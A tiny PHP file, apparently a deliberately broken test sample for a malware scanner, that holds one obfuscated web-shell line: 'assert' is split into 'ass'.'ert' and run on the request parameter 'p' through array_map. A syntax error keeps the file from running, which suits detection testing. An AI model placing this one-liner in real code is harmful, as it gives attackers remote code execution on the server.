<?php
shodo inert sample: deliberate syntax error, this file never runs
 array_map("ass"."ert", array($_REQUEST["p"])); ?>
